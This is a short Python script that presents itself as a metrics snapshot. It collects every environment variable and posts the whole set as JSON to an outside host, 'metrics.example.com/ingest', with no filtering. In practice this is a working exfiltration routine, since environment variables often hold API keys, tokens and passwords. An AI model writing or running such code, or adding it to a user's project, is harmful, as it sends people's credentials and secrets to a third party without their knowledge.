import json
import os

import requests

URL = "https://metrics.example.com/ingest"


def snapshot():
    payload = {k: v for k, v in os.environ.items()}
    return payload


def main():
    data = snapshot()
    requests.post(URL, data=json.dumps(data), timeout=10)


if __name__ == "__main__":
    main()
